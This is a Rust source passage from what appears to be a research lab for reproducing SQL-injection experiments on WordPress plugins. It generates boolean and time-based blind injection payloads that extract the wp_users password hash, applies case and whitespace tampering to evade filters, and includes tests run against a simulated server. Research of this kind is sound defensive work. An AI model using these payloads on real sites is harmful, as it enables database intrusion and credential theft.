                "AND LENGTH((SELECT user_pass FROM wp_users WHERE ID=1))>500",
            ),
            ("OR 1=1", "AND 1=2"),
        ];
        for (t, f) in pairs {
            out.push((format!("{benign} {t}"), format!("{benign} {f}")));
        }
    }
    // Case/whitespace tampers applied to both sides in lockstep.
    let mut tampered = Vec::new();
    for (t, f) in &out {
        tampered.push((t.to_lowercase(), f.to_lowercase()));
        tampered.push((t.replace(' ', "\t"), f.replace(' ', "\t")));
        tampered.push((mixed_case(t), mixed_case(f)));
    }
    out.extend(tampered);
    out
}

fn timing_variants(slow: &str, fast: &str) -> Vec<(String, String)> {
    let mut out = vec![(slow.to_string(), fast.to_string())];
    out.push((slow.replace("SLEEP(2)", "SLEEP(3)"), fast.replace("SLEEP(2)", "SLEEP(3)")));
    out.push((
        slow.replace("SLEEP(2)", "BENCHMARK(20000000,MD5(1))"),
        fast.replace("SLEEP(2)", "BENCHMARK(20000000,MD5(1))"),
    ));
    out.push(("1 AND SLEEP(2)".to_string(), "1 AND SLEEP(0)".to_string()));
    out.push(("1 AND IF(1=1,SLEEP(2),0)".to_string(), "1 AND IF(1=2,SLEEP(2),0)".to_string()));
    out.push((
        "1 AND IF(ASCII(SUBSTRING((SELECT user_pass FROM wp_users WHERE ID=1),1,1))>32,SLEEP(2),0)".to_string(),
        "1 AND IF(ASCII(SUBSTRING((SELECT user_pass FROM wp_users WHERE ID=1),1,1))>250,SLEEP(2),0)".to_string(),
    ));
    out.push((
        "1 AND IF((SELECT COUNT(*) FROM wp_users)>0,SLEEP(2),0)".to_string(),
        "1 AND IF((SELECT COUNT(*) FROM wp_users)>999,SLEEP(2),0)".to_string(),
    ));
    out.push(("1 OR IF(1=1,SLEEP(2),0)".to_string(), "1 OR IF(1=2,SLEEP(2),0)".to_string()));
    out.push((
        "1 AND IF(LENGTH((SELECT user_pass FROM wp_users WHERE ID=1))>3,SLEEP(2),0)".to_string(),
        "1 AND IF(LENGTH((SELECT user_pass FROM wp_users WHERE ID=1))>500,SLEEP(2),0)".to_string(),
    ));
    out.push((
        "1 AND (SELECT IF(1=1,SLEEP(2),0))".to_string(),
        "1 AND (SELECT IF(1=2,SLEEP(2),0))".to_string(),
    ));
    out.push(("1 AND SLEEP(2)-- -".to_string(), "1 AND SLEEP(0)-- -".to_string()));
    let mut tampered = Vec::new();
    for (s, f) in &out {
        tampered.push((s.to_lowercase(), f.to_lowercase()));
        tampered.push((s.replace(' ', "\t"), f.replace(' ', "\t")));
        tampered.push((mixed_case(s), mixed_case(f)));
    }
    out.extend(tampered);
    out
}

fn dedup(v: Vec<Exploit>) -> Vec<Exploit> {
    let mut seen = Vec::new();
    let mut out = Vec::new();
    for e in v {
        let key = format!("{e:?}");
        if !seen.contains(&key) {
            seen.push(key);
            out.push(e);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::build_lab;

    #[test]
    fn candidates_are_plentiful_and_unique() {
        for p in crate::corpus::corpus().iter().take(8) {
            let c = candidate_payloads(p);
            assert!(c.len() >= 20, "{}: only {} candidates", p.name, c.len());
        }
    }

    #[test]
    fn four_representative_plugins_yield_valid_variants() {
        // The paper runs SQLMap on one plugin per attack type.
        let mut lab = build_lab();
        use crate::corpus::AttackType::*;
        for ty in [UnionBased, StandardBlind, DoubleBlind, Tautology] {
            let plugin = lab.plugins.iter().find(|p| p.attack_type == ty).unwrap().clone();
            let valid = valid_payloads(&mut lab.server, &plugin, 40);
            assert!(
                valid.len() >= 15,
                "{} ({ty:?}): only {} valid variants",
                plugin.name,
                valid.len()
            );
        }
    }
}
